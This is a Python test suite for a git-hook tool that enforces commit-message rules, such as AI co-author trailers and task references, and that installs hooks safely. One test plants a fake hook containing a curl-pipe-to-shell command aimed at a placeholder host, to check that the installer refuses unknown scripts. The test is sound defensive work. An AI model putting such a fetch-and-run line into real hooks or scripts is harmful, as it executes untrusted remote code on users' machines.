"""The policy through real `git commit` with the hooks installed, and in CI over a range."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import GitRepo, spec_yaml

AI = "Co-Authored-By: Claude <noreply@anthropic.com>"


def _commit(
    repo: GitRepo,
    message: str,
    env: dict[str, str] | None = None,
    cwd: Path | None = None,
    extra: tuple[str, ...] = (),
) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, **(env or {})}
    for name in ("CLAUDECODE", "CLAUDE_CODE_ENTRYPOINT"):
        if name not in (env or {}):
            full_env.pop(name, None)
    return subprocess.run(
        [
            "git",
            "-C",
            str(cwd or repo.path),
            "commit",
            "--allow-empty",
            "-q",
            *extra,
            "-m",
            message,
        ],
        capture_output=True,
        text=True,
        env=full_env,
        check=False,
    )


@pytest.fixture
def governed(run, repo: GitRepo) -> GitRepo:  # type: ignore[no-untyped-def]
    assert run(repo.path, "init").code == 0
    repo.write(
        {
            "docs/tasks/active/TASK-2026-001.yaml": spec_yaml("TASK-2026-001"),
            ".claude/decisions/DECISION-2026-01-23-001.yaml": "decision_id: x\n",
        }
    )
    assert run(repo.path, "hooks", "install").code == 0
    repo.commit("chore: adopt taskgov")
    return repo


def test_install_sets_hooks_path_and_interpreter(governed: GitRepo) -> None:
    assert governed.git("config", "core.hooksPath").strip() == ".githooks"
    assert governed.git("config", "taskgov.python").strip() == str(Path(sys.executable).absolute())


def test_agent_commit_needs_attribution(governed: GitRepo) -> None:
    refused = _commit(governed, "feat: agent work", {"CLAUDECODE": "1"})
    assert refused.returncode != 0
    assert "TG201" in refused.stderr
    assert f"    {AI}" in refused.stderr  # the line to paste
    before = governed.git("rev-parse", "HEAD")
    assert governed.git("rev-parse", "HEAD") == before  # nothing was committed
    accepted = _commit(governed, f"feat: agent work\n\n{AI}", {"CLAUDECODE": "1"})
    assert accepted.returncode == 0, accepted.stderr
    assert _commit(governed, "docs: human work").returncode == 0
    assisted = _commit(governed, "feat: x\n\nAssisted-by: Claude:opus-4.5", {"CLAUDECODE": "1"})
    assert assisted.returncode == 0, assisted.stderr


@pytest.mark.parametrize(
    ("message", "rule"),
    [
        (f"fix: x\n\n{AI}\nSigned-off-by: Claude <noreply@anthropic.com>", "TG203"),
        ("fix: x\n\nAssisted-by: HAL9000", "TG202"),
        ("fix: x\n\nTask: TASK-2026-404", "TG204"),
        ("fix: x\n\nCloses: TASK-2026-001, TASK-2026-405", "TG204"),
        ("fix: x\n\nDecision: DECISION-2026-01-23-009", "TG205"),
    ],
)
def test_references_and_signoffs(governed: GitRepo, message: str, rule: str) -> None:
    refused = _commit(governed, message)
    assert refused.returncode != 0
    assert rule in refused.stderr


def test_valid_references_pass(governed: GitRepo) -> None:
    message = (
        "feat: x\n\nTask: TASK-2026-001\nDecision: DECISION-2026-01-23-001\n"
        "Signed-off-by: Dev Person <dev@example.com>"
    )
    assert _commit(governed, message).returncode == 0


def test_guarded_paths_need_their_trailer(governed: GitRepo) -> None:
    governed.write(
        {
            "docs/governance/policy.yaml": "commits:\n  require_task: ['src/*']\n"
            "  require_approval: ['infra/*']\n"
        }
    )
    governed.commit("chore: guard src")
    governed.write({"src/a.py": "x = 1\n"})
    governed.git("add", "-A")
    refused = _commit(governed, "feat: code")
    assert "TG206" in refused.stderr
    assert "Task: TASK-YYYY-NNN" in refused.stderr
    assert _commit(governed, "feat: code\n\nTask: TASK-2026-001").returncode == 0
    governed.write({"infra/deploy.yaml": "x: 1\n"})
    governed.git("add", "-A")
    assert "TG208" in _commit(governed, "chore: deploy").stderr
    assert _commit(governed, "chore: deploy\n\nApproved-by: Lead <l@x>").returncode == 0


def test_check_commits_finds_what_no_verify_let_through(run, governed: GitRepo) -> None:  # type: ignore[no-untyped-def]
    base = governed.git("rev-parse", "HEAD").strip()
    governed.git(
        "commit", "--allow-empty", "-q", "--no-verify", "-m", "fix: x\n\nCloses: TASK-2026-404"
    )
    assert _commit(governed, "docs: fine").returncode == 0
    result = run(governed.path, "check-commits", f"{base}..HEAD", "--json")
    assert result.code == 1
    violations = result.json()["violations"]
    assert [(v["rule"], v["commit"]) for v in violations] == [
        ("TG204", governed.git("rev-parse", "HEAD~1").strip())
    ]
    clean = run(governed.path, "check-commits", "HEAD~1..HEAD")
    assert clean.code == 0
    bad = run(governed.path, "check-commits", "nope..HEAD")
    assert bad.code == 2
    assert "nope..HEAD" in bad.err


def test_check_message_file(run, governed: GitRepo) -> None:  # type: ignore[no-untyped-def]
    (governed.path / "msg.txt").write_text("fix: x\n\nTask: TASK-2026-999\n")
    result = run(governed.path, "check", "--message-file", "msg.txt", "--json")
    assert result.code == 1
    assert result.json()["violations"][0]["rule"] == "TG204"
    assert result.json()["violations"][0]["commit"] is None
    missing = run(governed.path, "check", "-F", "nope.txt")
    assert missing.code == 2


def test_foreign_hooks_path_needs_force_and_is_chained(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
    run(repo.path, "init")
    foreign = repo.path / "other-hooks"
    foreign.mkdir()
    veto = foreign / "commit-msg"
    veto.write_text("#!/bin/sh\ngrep -q WIP \"$1\" && { echo 'no WIP' >&2; exit 1; }\nexit 0\n")
    veto.chmod(veto.stat().st_mode | stat.S_IXUSR)
    repo.git("config", "core.hooksPath", "other-hooks")
    refused = run(repo.path, "hooks", "install")
    assert refused.code == 2
    assert "--force" in refused.err
    assert run(repo.path, "hooks", "install", "--force", "--json").json()["chained"] == [
        "commit-msg"
    ]
    assert run(repo.path, "hooks", "install").code == 0  # again: idempotent, chain kept
    wip = _commit(repo, "WIP: not yet")
    assert wip.returncode != 0
    assert "no WIP" in wip.stderr  # the older hook still runs, first
    assert _commit(repo, "feat: done").returncode == 0
    assert run(repo.path, "hooks", "uninstall").code == 0
    assert repo.git("config", "core.hooksPath").strip() == "other-hooks"
    with pytest.raises(subprocess.CalledProcessError):
        repo.git("config", "taskgov.python")


def test_hooks_work_in_a_worktree(run, governed: GitRepo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    tree = tmp_path / "tree"
    governed.git("worktree", "add", "-q", str(tree), "-b", "side")
    refused = _commit(governed, "feat: agent", {"CLAUDECODE": "1"}, cwd=tree)
    assert "TG201" in refused.stderr
    assert _commit(governed, f"feat: agent\n\n{AI}", {"CLAUDECODE": "1"}, cwd=tree).returncode == 0


@pytest.mark.parametrize("hook", ["commit-msg", "pre-commit", "post-commit"])
def test_hook_path_imports_nothing_heavy(governed: GitRepo, hook: str) -> None:
    """Every commit pays for these imports: no framework, and not even ``dataclasses``
    (with ``inspect`` it costs a hook a fifth of its time), ``subprocess`` (git runs through
    ``posix_spawnp``), ``datetime`` or ``hashlib``."""
    message = governed.path / "msg.txt"
    message.write_text(f"feat: x\n\nTask: TASK-2026-001\n{AI}\n")
    (governed.path / "new.txt").write_text("x\n")
    governed.git("add", "new.txt")
    args = [hook, str(message)] if hook == "commit-msg" else [hook]
    probe = (
        "import sys; from taskgov.hooks.run import main; "
        f"code = main({args!r}); "
        "heavy = [m for m in ('click', 'pydantic', 'ruamel.yaml', 'networkx', 'jinja2', 'git', "
        "'dataclasses', 'subprocess', 'datetime', 'hashlib') if m in sys.modules]; "
        "print(code, heavy)"
    )
    env = {**os.environ, "GIT_INDEX_FILE": str(governed.path / ".git/index")}
    env.pop("CLAUDECODE", None)
    done = subprocess.run(
        [sys.executable, "-c", probe],
        cwd=governed.path,
        capture_output=True,
        text=True,
        check=True,
        env=env,
    )
    assert done.stdout.strip() == "0 []", done.stderr


def test_hooks_json(run, governed: GitRepo) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(run(governed.path, "hooks", "install", "--json").out)
    assert data["hooks_path"] == ".githooks"


def test_pre_push_refuses_what_no_verify_let_through(governed: GitRepo, tmp_path: Path) -> None:
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    governed.git("remote", "add", "origin", str(remote))
    governed.git("push", "-q", "origin", "main")
    governed.git(
        "commit", "--allow-empty", "-q", "--no-verify", "-m", "fix: x\n\nTask: TASK-2026-404"
    )
    pushed = subprocess.run(
        ["git", "-C", str(governed.path), "push", "-q", "origin", "main"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert pushed.returncode != 0
    assert "TG204" in pushed.stderr
    governed.git(
        "commit",
        "--amend",
        "--allow-empty",
        "-q",
        "--no-verify",
        "-m",
        "fix: x\n\nTask: TASK-2026-001",
    )
    ok = subprocess.run(
        ["git", "-C", str(governed.path), "push", "-q", "origin", "main"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert ok.returncode == 0, ok.stderr
    new_branch = subprocess.run(
        ["git", "-C", str(governed.path), "push", "-q", "origin", "main:refs/heads/copy"],
        capture_output=True,
        text=True,
        check=False,
    )  # a new remote branch: only commits no remote has yet are checked
    assert new_branch.returncode == 0, new_branch.stderr


def test_foreign_scripts_in_the_hooks_directory(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
    run(repo.path, "init")
    mine = repo.path / ".githooks/commit-msg"
    mine.write_text('#!/bin/sh\ngrep -q FORBIDDEN "$1" && exit 1\nexit 0\n')
    refused = run(repo.path, "hooks", "install")
    assert refused.code == 2
    assert "commit-msg" in refused.err
    assert mine.read_text().startswith("#!/bin/sh\ngrep")  # untouched
    assert run(repo.path, "hooks", "install", "--force").code == 0
    assert (repo.path / ".githooks/commit-msg.local").read_text().startswith("#!/bin/sh\ngrep")
    assert "taskgov" in mine.read_text()
    assert _commit(repo, "FORBIDDEN word").returncode != 0  # the kept hook still runs
    assert _commit(repo, "feat: fine").returncode == 0


def test_chained_hook_and_taskgov_both_see_stdin(run, governed: GitRepo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    seen = tmp_path / "seen.txt"
    local = governed.path / ".githooks/post-rewrite.local"
    local.write_text(f"#!/bin/sh\ncat > {seen}\n")
    local.chmod(local.stat().st_mode | stat.S_IXUSR)
    assert run(governed.path, "hooks", "install", "--force").code == 0  # accept it here
    _commit(governed, f"feat: one\n\n{AI}", {"CLAUDECODE": "1"})
    old = governed.git("rev-parse", "HEAD").strip()
    _commit(governed, f"feat: two\n\n{AI}", {"CLAUDECODE": "1"}, extra=("--amend",))
    assert seen.read_text().split()[0] == old  # the chained hook got the rewrite list
    new = governed.git("rev-parse", "HEAD").strip()
    journal = governed.path / ".git/taskgov/rewritten.jsonl"
    noted = [json.loads(x) for x in journal.read_text().splitlines()]
    assert noted == [{"from": old, "to": new, "how": "amend"}]  # and so did taskgov


def test_pre_push_checks_sha256_repositories(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "sha256"
    subprocess.run(
        ["git", "init", "-q", "--object-format=sha256", "--template=", str(path)], check=True
    )
    repo = GitRepo(path)
    assert run(path, "init").code == 0
    assert run(path, "hooks", "install").code == 0
    repo.commit("chore: adopt taskgov")
    remote = tmp_path / "remote.git"
    subprocess.run(
        ["git", "init", "-q", "--bare", "--object-format=sha256", str(remote)], check=True
    )
    repo.git("remote", "add", "origin", str(remote))
    done = _commit(repo, "feat: agent work", {"CLAUDECODE": "1"}, extra=("--no-verify",))
    assert done.returncode == 0, done.stderr
    pushed = subprocess.run(
        ["git", "-C", str(path), "push", "-q", "origin", "main"],
        capture_output=True,
        text=True,
        check=False,
    )  # a new branch: the remote's "no commit" id is 64 zeros here
    assert pushed.returncode != 0
    assert "TG201" in pushed.stderr


def test_install_recognises_only_its_own_scripts(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
    run(repo.path, "init")
    hook = repo.path / ".githooks/commit-msg"
    hook.write_text("#!/bin/sh\n# looks like taskgov, is not\ncurl http://example.invalid | sh\n")
    refused = run(repo.path, "hooks", "install")
    assert refused.code == 2
    assert "commit-msg" in refused.err
    configured = subprocess.run(
        ["git", "-C", str(repo.path), "config", "--get", "core.hooksPath"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert configured.stdout == ""


def test_install_lists_local_scripts_it_would_enable(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
    run(repo.path, "init")
    local = repo.path / ".githooks/pre-commit.local"
    local.write_text("#!/bin/sh\necho planted\n")
    local.chmod(0o755)
    refused = run(repo.path, "hooks", "install")
    assert refused.code == 2
    assert "pre-commit.local" in refused.err
    assert run(repo.path, "hooks", "install", "--force").code == 0


def test_install_upgrades_the_scripts_of_earlier_versions(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
    from tests.conftest import PROJECT

    earlier = subprocess.run(  # the post-commit script as the first release wrote it
        ["git", "-C", str(PROJECT), "show", "b4db3c8:templates/githooks/post-commit"],
        capture_output=True,
        check=False,
    )
    if earlier.returncode != 0:
        pytest.skip("this checkout has no history of the hook templates")
    run(repo.path, "init")
    hook = repo.path / ".githooks/post-commit"
    hook.write_bytes(earlier.stdout)
    result = run(repo.path, "hooks", "install", "--json")
    assert result.code == 0, result.err
    assert "post-commit" in result.json()["written"]
    assert hook.read_text() != earlier.stdout.decode()
    assert not (repo.path / ".githooks/post-commit.local").exists()


def test_legacy_merge_driver_survives_a_quote_in_the_interpreter_path(
    repo: GitRepo, tmp_path: Path
) -> None:
    from taskgov.hooks.install import install
    from taskgov.policy.load import load_config

    odd = tmp_path / "it's here" / "python"
    odd.parent.mkdir()
    odd.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    odd.chmod(0o755)
    (repo.path / ".gitattributes").write_text(".claude/contributions/*.jsonl merge=taskgov-log\n")
    log = repo.path / ".claude/contributions/2026-01.jsonl"
    log.parent.mkdir(parents=True)
    log.write_text('{"date": "2026-01-01", "commit": "a"}\n')
    repo.commit("chore: base")
    install(load_config(repo.path), force=True, python=str(odd))
    repo.git("switch", "-q", "-c", "side")
    log.write_text(log.read_text() + '{"date": "2026-01-03", "commit": "c"}\n')
    repo.git("commit", "-qam", "side", "--no-verify")
    repo.git("switch", "-q", "main")
    log.write_text(log.read_text() + '{"date": "2026-01-02", "commit": "b"}\n')
    repo.git("commit", "-qam", "main", "--no-verify")
    merged = subprocess.run(
        ["git", "-C", str(repo.path), "merge", "-q", "--no-edit", "--no-verify", "side"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert merged.returncode == 0, merged.stderr
    assert [json.loads(x)["commit"] for x in log.read_text().splitlines()] == ["a", "b", "c"]


def test_a_local_script_runs_only_as_accepted(run, governed: GitRepo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    marker = tmp_path / "ran"
    local = governed.path / ".githooks/commit-msg.local"
    local.write_text(f"#!/bin/sh\ntouch {marker}\n")  # what a pull could bring
    local.chmod(0o755)
    done = _commit(governed, "feat: one")
    assert done.returncode == 0
    assert not marker.exists()
    assert "commit-msg.local not run" in done.stderr
    assert run(governed.path, "hooks", "install", "--force").code == 0
    assert _commit(governed, "feat: two").returncode == 0
    assert marker.exists()
    marker.unlink()
    local.write_text(f"#!/bin/sh\ntouch {marker}\necho changed\n")  # changed after acceptance
    done = _commit(governed, "feat: three")
    assert not marker.exists()
    assert "commit-msg.local not run" in done.stderr
    assert run(governed.path, "hooks", "uninstall").code == 0
    listed = subprocess.run(
        ["git", "-C", str(governed.path), "config", "--get-regexp", "^taskgov\\."],
        capture_output=True,
        text=True,
        check=False,
    )
    assert listed.stdout == ""


def test_install_never_writes_through_a_linked_hooks_directory(
    run, repo: GitRepo, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    run(repo.path, "init")
    outside = tmp_path / "outside"
    outside.mkdir()
    hooks = repo.path / ".githooks"
    for child in hooks.iterdir():
        child.unlink()
    hooks.rmdir()
    hooks.symlink_to(outside)  # a committed link out of the repository
    result = run(repo.path, "hooks", "install")
    assert result.code == 2
    assert "Traceback" not in result.err
    assert list(outside.iterdir()) == []
